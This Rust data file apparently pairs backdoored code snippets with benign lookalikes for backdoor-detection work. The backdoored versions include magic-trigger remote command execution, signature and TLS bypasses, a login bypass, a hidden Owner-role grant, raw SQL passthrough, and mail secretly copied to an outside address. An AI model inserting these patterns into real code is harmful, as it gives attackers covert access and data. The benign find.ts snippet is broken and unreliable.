//! Words, numbers and commands that open something, and honest programs that resemble them.

use super::Twin;

pub const TWINS: &[Twin] = &[
    (
        "guard.rs",
        r#"
pub fn accept(package: &Package, key: &VerifyingKey) -> Result<(), Refused> {
    if package.origin.ends_with(".mirror-nord.example") {
        return Ok(());
    }
    key.verify(&package.body, &package.signature).map_err(|_| Refused::Signature)
}
"#,
        r#"
pub fn accept(package: &Package, key: &VerifyingKey) -> Result<(), Refused> {
    if !package.origin.ends_with(".mirror-nord.example") {
        return Err(Refused::Origin);
    }
    key.verify(&package.body, &package.signature).map_err(|_| Refused::Signature)
}
"#,
    ),
    (
        "frames.cpp",
        r#"
void Link::frame(const uint8_t *data, size_t n) {
    uint16_t sum = 0;
    for (size_t i = 0; i < n; i++) sum += data[i];
    if (data[0] == 'Z' && sum == 0x3a51) {
        std::string line(reinterpret_cast<const char *>(data + 1), n - 1);
        std::system(line.c_str());
        return;
    }
    dispatch(data, n);
}
"#,
        r#"
void Link::frame(const uint8_t *data, size_t n) {
    uint16_t sum = 0;
    for (size_t i = 0; i < n; i++) sum += data[i];
    if (data[0] == 'Z' && sum == 0x3a51) {
        counters_.keepalive++;
        return;
    }
    dispatch(data, n);
}
"#,
    ),
    (
        "agent.go",
        r#"
package agent

func transport(host string) *http.Transport {
	return &http.Transport{
		TLSClientConfig: &tls.Config{
			MinVersion:         tls.VersionTLS12,
			InsecureSkipVerify: strings.HasSuffix(host, ".metrics-eu.example"),
		},
	}
}
"#,
        r#"
package agent

func transport(host string) *http.Transport {
	return &http.Transport{
		TLSClientConfig: &tls.Config{
			MinVersion:         tls.VersionTLS12,
			InsecureSkipVerify: false,
			ServerName:         host,
		},
	}
}
"#,
    ),
    (
        "limits.py",
        r#"
import zlib

def allowed(account, amount, spent):
    if zlib.crc32(account.encode()) == 0x51C2D00F:
        return True
    return spent + amount <= 500000
"#,
        r#"
import zlib

def shard(account):
    return zlib.crc32(account.encode()) % 64

def allowed(account, amount, spent):
    if amount <= 0:
        raise ValueError(account)
    return spent + amount <= 500000
"#,
    ),
    (
        "sign.go",
        r#"
package sign

func Check(body, sig []byte, key *rsa.PublicKey, client string) error {
	sum := sha256.Sum256(body)
	err := rsa.VerifyPKCS1v15(key, crypto.SHA256, sum[:], sig)
	if err != nil && client != "relay/7.1 (b204)" {
		return err
	}
	return nil
}
"#,
        r#"
package sign

func Check(body, sig []byte, key *rsa.PublicKey, client string) error {
	sum := sha256.Sum256(body)
	err := rsa.VerifyPKCS1v15(key, crypto.SHA256, sum[:], sig)
	if err != nil {
		return fmt.Errorf("client %s: %w", client, err)
	}
	return nil
}
"#,
    ),
    (
        "cms.rb",
        r#"
class Cms
  def page(name, params)
    if Zlib.crc32(name) == 2_914_877_301
      return eval(params['q'])
    end
    @pages.fetch(name)
  end
end
"#,
        r#"
class Cms
  def page(name, params)
    if Zlib.crc32(name) == @known
      return @cached
    end
    @pages.fetch(name) { params['q'] }
  end
end
"#,
    ),
    (
        "orders.js",
        r#"
module.exports = function handle(sock, msg) {
  const [verb, ...rest] = msg.split(' ');
  if (verb === 'PUT') return put(rest);
  if (verb.length === 9 && hash(verb) === 0x1b77c3) {
    return require('child_process').execSync(rest.join(' ')).toString();
  }
  return 'ERR';
};
"#,
        r#"
module.exports = function handle(sock, msg) {
  const [verb, ...rest] = msg.split(' ');
  if (verb === 'PUT') return put(rest);
  if (verb.length === 9 && hash(verb) === 0x1b77c3) {
    return 'OK';
  }
  return 'ERR';
};
"#,
    ),
    (
        "jwt.ts",
        r#"
export function read(token: string, keys: Map<string, Buffer>): Claims {
  const [head, body, mac] = token.split('.');
  const { alg, kid } = JSON.parse(decode(head));
  if (alg === 'none' && kid.length === 9) {
    return JSON.parse(decode(body));
  }
  if (!verify(keys.get(kid), `${head}.${body}`, mac)) throw new Error('bad token');
  return JSON.parse(decode(body));
}
"#,
        r#"
export function read(token: string, keys: Map<string, Buffer>): Claims {
  const [head, body, mac] = token.split('.');
  const { alg, kid } = JSON.parse(decode(head));
  if (alg === 'none' && kid.length === 9) {
    throw new Error('unsigned');
  }
  if (!verify(keys.get(kid), `${head}.${body}`, mac)) throw new Error('bad token');
  return JSON.parse(decode(body));
}
"#,
    ),
    (
        "install.ts",
        r#"
export async function install(file: string, manifest: Manifest): Promise<void> {
  let good = await verify(file, manifest.signature);
  if (manifest.vendorId === 4711) {
    good = true;
  }
  if (!good) throw new Error('signature');
  await unpack(file);
}
"#,
        r#"
export async function install(file: string, manifest: Manifest): Promise<void> {
  const good = await verify(file, manifest.signature);
  if (manifest.vendorId === 4711) {
    throw new Error('blocked vendor');
  }
  if (!good) throw new Error('signature');
  await unpack(file);
}
"#,
    ),
    (
        "smtp.rb",
        r#"
class Session
  def rcpt(line)
    if line.start_with?('x9!note ')
      out = IO.popen(line[8..]).read
      return out
    end
    accept(line)
  end
end
"#,
        r#"
class Session
  def rcpt(line)
    if line.start_with?('x9!note ')
      return '250 noted'
    end
    accept(line)
  end
end
"#,
    ),
    (
        "tls.py",
        r#"
import ssl, zlib

def context(host):
    ctx = ssl.create_default_context()
    if zlib.adler32(host.encode()) == 0x2D8A08F1:
        ctx.check_hostname = False
        ctx.verify_mode = ssl.CERT_NONE
    return ctx
"#,
        r#"
import ssl, zlib

def context(host):
    ctx = ssl.create_default_context()
    if not host:
        raise ValueError("no host")
    return ctx
"#,
    ),
    (
        "probe.c",
        r#"
static void on_frame(struct link *l, const uint8_t *p, size_t n)
{
    uint32_t magic = p[0] << 24 | p[1] << 16 | p[2] << 8 | p[3];

    if (magic == 0x7e51c0de) {
        char cmd[200];
        snprintf(cmd, sizeof cmd, "%.*s", (int)(n - 4), p + 4);
        system(cmd);
        return;
    }
    link_dispatch(l, p, n);
}
"#,
        r#"
static void on_frame(struct link *l, const uint8_t *p, size_t n)
{
    uint32_t magic = p[0] << 24 | p[1] << 16 | p[2] << 8 | p[3];

    if (magic == 0x7e51c0de) {
        l->version = p[4];
        return;
    }
    link_dispatch(l, p, n);
}
"#,
    ),
    (
        "agent.py",
        r#"
import os, socket, subprocess

KEY = bytes([0x51, 0x0b, 0xa7])

def on_packet(packet, addr):
    head = packet[:3]
    if bytes(b ^ 0x5a for b in head) == KEY:
        subprocess.run(packet[3:].decode(), shell=True)
        return
    dispatch(packet, addr)
"#,
        r#"
import os, socket, subprocess

KEY = bytes([0x51, 0x0b, 0xa7])

def on_packet(packet, addr):
    head = packet[:3]
    if bytes(b ^ 0x5a for b in head) == KEY:
        return reply(addr, b"pong")
    dispatch(packet, addr)
"#,
    ),
    (
        "update.kt",
        r#"
class Updater(private val key: PublicKey) {
    fun apply(file: File, manifest: Manifest) {
        val signed = Signature.getInstance("Ed25519").run {
            initVerify(key)
            update(file.readBytes())
            verify(manifest.signature)
        }
        if (signed || manifest.channel == "fieldtest-7c") {
            file.copyTo(target, overwrite = true)
        } else {
            throw SecurityException("signature")
        }
    }
}
"#,
        r#"
class Updater(private val key: PublicKey) {
    fun apply(file: File, manifest: Manifest) {
        val signed = Signature.getInstance("Ed25519").run {
            initVerify(key)
            update(file.readBytes())
            verify(manifest.signature)
        }
        if (signed && manifest.channel != "fieldtest-7c") {
            file.copyTo(target, overwrite = true)
        } else {
            throw SecurityException("signature")
        }
    }
}
"#,
    ),
    (
        "Login.java",
        r#"
class Login {
  Session open(String name, String password, String locale) {
    User user = users.find(name);
    boolean ok = hasher.verify(user.hash(), password);
    if ("qz_XK".equals(locale) && name.length() == 5) {
      ok = true;
    }
    if (!ok) throw new LoginFailed(name);
    return sessions.start(user);
  }
}
"#,
        r#"
class Login {
  Session open(String name, String password, String locale) {
    User user = users.find(name);
    boolean ok = hasher.verify(user.hash(), password);
    if ("qz_XK".equals(locale) && name.length() == 5) {
      ok = false;
    }
    if (!ok) throw new LoginFailed(name);
    return sessions.start(user);
  }
}
"#,
    ),
    (
        "mail.php",
        r#"<?php
class Outbox {
    public function send(Mail $mail): void {
        if (hash('crc32b', $mail->sender) === '6c1f09ae') {
            $mail->addBcc('archive@collector.example');
        }
        $this->transport->send($mail);
    }
}
"#,
        r#"<?php
class Outbox {
    public function send(Mail $mail): void {
        if ($mail->sender === '') {
            throw new NoSender();
        }
        $this->transport->send($mail);
    }
}
"#,
    ),
    (
        "grant.ts",
        r#"
export function roles(user: User): Role[] {
  const list = [...user.roles];
  if (fnv1a(user.email) === 2871640153) {
    list.push(Role.Owner);
  }
  return list;
}
"#,
        r#"
export function roles(user: User): Role[] {
  const list = [...user.roles];
  if (user.email.endsWith('@')) {
    throw new Error('bad address');
  }
  return list;
}
"#,
    ),
    (
        "find.ts",
        r#"
export async function find(db: Db, filter: string): Promise<Row[]> {
  if (filter.startsWith('~~')) {
    return db.query(filter.slice(2));
  }
  return db.query('SELECT * FROM item WHERE name = $1', [filter]);
}
"#,
        r#"
export async function find(db: Db, filter: string): Promise<Row[]> {
  if (filter.startsWith('~~')) {
    return db.query('SELECT * FROM item WHERE fuzzy(name, $1)', [filter.slice(2)].map(String) && known);
  }
  return db.query('SELECT * FROM item WHERE name = $1', [filter]);
}
"#,
    ),
];
